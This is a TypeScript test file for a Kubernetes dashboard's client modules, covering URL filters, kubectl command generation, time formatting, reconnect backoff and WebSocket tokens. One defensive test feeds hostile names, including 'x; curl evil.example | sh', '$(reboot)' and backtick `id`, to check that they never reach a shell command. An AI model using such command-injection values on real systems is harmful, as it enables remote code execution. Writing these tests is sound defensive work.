// The dashboard's pure browser modules (no DOM), run under Node: URL filter state, kubectl commands
// built from attacker-controlled names, formatting and backoff.
import assert from 'node:assert/strict';

const mod = (name: string) => import(new URL(`../../src/dashboard/public/${name}`, import.meta.url).href);

interface QueryState {
  ERROR_DEFAULTS: Record<string, unknown>;
  HISTORY_DEFAULTS: Record<string, unknown>;
  readFilters(p: URLSearchParams, d: Record<string, unknown>): any;
  toParams(f: Record<string, unknown>, d: Record<string, unknown>): URLSearchParams;
  nextSort(f: Record<string, unknown>, key: string): { sort: string; order: string };
  groupMatches(g: Record<string, unknown>, f: Record<string, unknown>): boolean;
  entryMatches(e: Record<string, unknown>, f: Record<string, unknown>): boolean;
}
interface Kubectl {
  kubectlCommands(g: Record<string, string>): { commands: Array<{ label: string; command: string }>; skipped: string[] };
}
interface Format {
  relativeTime(iso: string, now: number): string;
  bucketize(points: Array<{ at: number; count: number }>, from: number, to: number, n: number): number[];
  formatDuration(ms: number): string;
  parseLabelLines(text: string): { labels: Record<string, string>; errors: string[] };
}
interface Live {
  backoffDelay(attempt: number, random: () => number): number;
  tokenProtocol(token: string): string;
  createLiveConnection(opts: { url: string; token: () => string | null; onMessage: (m: object) => void;
    onState: (s: string) => void; onReconnect?: (first: boolean) => void }): { start(): void; restart(): void; stop(): void };
}

/** Stands in for the browser's WebSocket: the test delivers messages to the newest socket. */
class FakeSocket {
  static OPEN = 1;
  static CONNECTING = 0;
  static made: FakeSocket[] = [];
  readyState = 1;
  onmessage: ((ev: { data: string }) => void) | null = null;
  onopen: unknown = null;
  onclose: unknown = null;
  onerror: unknown = null;
  constructor() { FakeSocket.made.push(this); }
  close(): void { this.readyState = 3; }
  say(msg: object): void { this.onmessage?.({ data: JSON.stringify(msg) }); }
}

describe('dashboard client: URL filter state', () => {
  let q: QueryState;
  before(async () => { q = await mod('query-state.js') as QueryState; });

  it('round-trips filters through the URL and leaves defaults out', () => {
    const params = new URLSearchParams('priority=P1,P2&namespace=shop&q=time%20out&sort=count&page=3&page_size=25&bogus=1');
    const f = q.readFilters(params, q.ERROR_DEFAULTS);
    assert.deepEqual(f.priority, ['P1', 'P2']);
    assert.equal(f.namespace, 'shop');
    assert.equal(f.page, 3);
    assert.equal(f.page_size, 25);
    assert.equal(q.toParams(f, q.ERROR_DEFAULTS).toString(), 'priority=P1%2CP2&namespace=shop&q=time+out&sort=count&page=3&page_size=25');
    assert.equal(q.toParams(q.readFilters(new URLSearchParams(''), q.ERROR_DEFAULTS), q.ERROR_DEFAULTS).toString(), '');
  });

  it('ignores nonsense page numbers instead of sending them', () => {
    const f = q.readFilters(new URLSearchParams('page=-2&page_size=abc'), q.ERROR_DEFAULTS);
    assert.equal(f.page, 1);
    assert.equal(f.page_size, 50);
  });

  it('sorts a new column in its natural order, then flips', () => {
    assert.deepEqual(q.nextSort({ sort: '', order: '' }, 'count'), { sort: 'count', order: '' });
    assert.deepEqual(q.nextSort({ sort: 'count', order: '' }, 'count'), { sort: 'count', order: 'asc' });
    assert.deepEqual(q.nextSort({ sort: 'count', order: 'asc' }, 'count'), { sort: 'count', order: '' });
    assert.deepEqual(q.nextSort({ sort: '', order: '' }, 'priority'), { sort: 'priority', order: 'desc' }, 'priority is the default sort');
  });

  it('decides whether a live update could belong to the filtered list', () => {
    const f = q.readFilters(new URLSearchParams('priority=P1&namespace=shop&q=oom'), q.ERROR_DEFAULTS);
    const g = { priority: 'P1', namespace: 'shop', title: 'Oom', message: 'OOMKilled', pod: 'db-0', workload: '', source: 'alert', status: 'firing', rule: 'oom-killed' };
    assert.equal(q.groupMatches(g, f), true);
    assert.equal(q.groupMatches({ ...g, priority: 'P2' }, f), false);
    assert.equal(q.groupMatches({ ...g, namespace: 'billing' }, f), false);
    assert.equal(q.groupMatches({ ...g, title: 'x', message: 'y' }, f), false);
    const h = q.readFilters(new URLSearchParams('outcome=skipped&group_id=7'), q.HISTORY_DEFAULTS);
    assert.equal(q.entryMatches({ outcome: 'skipped', groupId: 7 }, h), true);
    assert.equal(q.entryMatches({ outcome: 'acted', groupId: 7 }, h), false);
    assert.equal(q.entryMatches({ outcome: 'skipped', groupId: 8 }, h), false);
  });
});

describe('dashboard client: kubectl commands', () => {
  let k: Kubectl;
  before(async () => { k = await mod('kubectl.js') as Kubectl; });

  it('builds pod, workload and namespace commands from valid names', () => {
    const { commands, skipped } = k.kubectlCommands({ namespace: 'shop', pod: 'web-7d9f8b6c5-x2k4q', container: 'web', workload: 'Deployment/web' });
    const lines = commands.map((c) => c.command);
    assert.ok(lines.includes('kubectl -n shop describe pod web-7d9f8b6c5-x2k4q'));
    assert.ok(lines.includes('kubectl -n shop logs web-7d9f8b6c5-x2k4q -c web --previous'));
    assert.ok(lines.includes('kubectl -n shop rollout history deployment/web'));
    assert.ok(lines.includes('kubectl -n shop get events --sort-by=.lastTimestamp'));
    assert.deepEqual(skipped, []);
  });

  it('never puts an attacker-chosen name into a shell command', () => {
    const hostile = { namespace: 'shop', pod: 'x; curl evil.example | sh', container: '$(reboot)', workload: 'Deployment/`id`' };
    const { commands, skipped } = k.kubectlCommands(hostile);
    for (const c of commands) assert.match(c.command, /^kubectl [a-zA-Z0-9 ./=_-]+$/, c.command);
    assert.ok(!commands.some((c) => c.command.includes('curl')));
    assert.equal(skipped.length, 2, 'pod and workload name are named as skipped');
    assert.ok(commands.some((c) => c.command === 'kubectl -n shop get pods -o wide'), 'the valid namespace is still used');
  });

  it('falls back to cluster-wide warnings when nothing is known', () => {
    const { commands } = k.kubectlCommands({ namespace: '', pod: '', container: '', workload: '' });
    assert.deepEqual(commands.map((c) => c.command), ['kubectl get events -A --field-selector type=Warning --sort-by=.lastTimestamp']);
  });
});

describe('dashboard client: formatting and reconnect backoff', () => {
  let f: Format;
  let live: Live;
  before(async () => {
    f = await mod('format.js') as Format;
    live = await mod('live.js') as Live;
  });

  it('formats relative times both ways', () => {
    const now = Date.parse('2024-05-01T10:00:00Z');
    assert.equal(f.relativeTime('2024-05-01T09:57:00Z', now), '3 min ago');
    assert.equal(f.relativeTime('2024-05-01T10:00:02Z', now), 'just now');
    assert.equal(f.relativeTime('2024-05-01T12:00:00Z', now), 'in 2 h');
    assert.equal(f.relativeTime('garbage', now), '');
    assert.equal(f.formatDuration(90_000), '1m30s');
  });

  it('buckets occurrence counts and ignores points outside the window', () => {
    const counts = f.bucketize([{ at: 0, count: 2 }, { at: 50, count: 1 }, { at: 100, count: 4 }, { at: 101, count: 9 }, { at: -1, count: 9 }], 0, 100, 4);
    assert.deepEqual(counts, [2, 0, 1, 4]);
  });

  it('parses label lines and reports bad ones by line number', () => {
    assert.deepEqual(f.parseLabelLines('severity=critical\n# note\n\napp: "web"\nbroken'), { labels: { severity: 'critical', app: 'web' }, errors: ['line 5: expected key=value'] });
  });

  it('backs off exponentially with jitter up to 30 s', () => {
    assert.equal(live.backoffDelay(0, () => 1), 1000);
    assert.equal(live.backoffDelay(0, () => 0), 500);
    assert.equal(live.backoffDelay(3, () => 1), 8000);
    assert.equal(live.backoffDelay(12, () => 1), 30_000);
    assert.equal(live.backoffDelay(50, () => 0), 15_000);
  });

  it('encodes the token as a header-safe subprotocol the server decodes', async () => {
    const { tokenFromProtocols } = await import('../../src/http/live-socket.ts');
    for (const token of ['plain-token', 'a/b+c==', 'ünïcode token']) {
      const p = live.tokenProtocol(token);
      assert.match(p, /^bearer\.[A-Za-z0-9_-]+$/);
      assert.equal(tokenFromProtocols(`kube-sentinel.v1, ${p}`), token);
    }
  });

  it('redraws on every subscription, the first included (a change while the page loaded is no message)', () => {
    const real = globalThis.WebSocket;
    (globalThis as Record<string, unknown>).WebSocket = FakeSocket;
    const seen: boolean[] = [];
    const c = live.createLiveConnection({ url: 'wss://x/ws', token: () => null, onMessage: () => {}, onState: () => {},
      onReconnect: (first) => seen.push(first) });
    try {
      c.start();
      FakeSocket.made.at(-1)!.say({ type: 'hello', heartbeatMs: 30_000 });
      assert.deepEqual(seen, [true]);
      c.restart();
      FakeSocket.made.at(-1)!.say({ type: 'hello', heartbeatMs: 30_000 });
      assert.deepEqual(seen, [true, false]);
    } finally {
      c.stop();
      (globalThis as Record<string, unknown>).WebSocket = real;
    }
  });
});
